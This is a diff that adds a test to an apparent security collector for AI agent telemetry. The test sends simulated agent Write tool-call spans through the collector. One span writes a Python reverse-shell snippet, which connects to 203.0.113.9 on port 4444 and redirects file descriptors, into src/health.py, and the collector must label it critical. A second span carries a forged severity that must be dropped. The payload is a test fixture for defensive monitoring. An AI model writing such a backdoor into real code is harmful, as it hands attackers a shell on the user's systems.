@@ -121,3 +121,37 @@ def test_hostile_input_is_bounded_and_total() -> None:
     changes = changes_from_tool_call("Write", {"file_path": "src/big.py", "content": lines})
     assert isinstance(review_changes(changes), list)
     assert changes_from_tool_call("Write", "{not json") == [] and changes_from_tool_call(None, None) == []  # type: ignore[arg-type]
+
+
+def test_the_collector_labels_a_backdoor_written_by_a_tool_call(collector) -> None:
+    """Through the real pipeline: an OTel SDK tool span whose Write arguments add a reverse shell is labelled by
+    the collector; a sender's own verdict on an ordinary edit is dropped, not stored."""
+    import orjson
+
+    from foothold import semconv
+    from tests.conftest import rows, sdk_agent
+
+    shell = "import socket,pty,os\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\n"
+    agent = sdk_agent(collector)
+    for call_id, path, content, forged in (
+        ("c-1", "src/health.py", shell, None),
+        ("c-2", "src/util.py", "def add(a, b):\n    return a + b\n", "critical"),
+    ):
+        with agent.tracer.start_as_current_span(semconv.tool_span_name("Write")) as span:
+            span.set_attribute(semconv.GEN_AI_OPERATION_NAME, semconv.OPERATION_EXECUTE_TOOL)
+            span.set_attribute(semconv.GEN_AI_TOOL_NAME, "Write")
+            span.set_attribute(semconv.GEN_AI_TOOL_CALL_ID, call_id)
+            span.set_attribute(
+                semconv.GEN_AI_TOOL_CALL_ARGUMENTS, orjson.dumps({"file_path": path, "content": content}).decode()
+            )
+            if forged:
+                span.set_attribute(semconv.CODE_SEVERITY, forged)
+    agent.close()
+    stored = dict(
+        rows(
+            collector,
+            f"SELECT SpanAttributes['{semconv.GEN_AI_TOOL_CALL_ID}'], SpanAttributes['{semconv.CODE_SEVERITY}'] "
+            "FROM {db}.otel_traces",
+        )
+    )
+    assert stored == {"c-1": "critical", "c-2": ""}
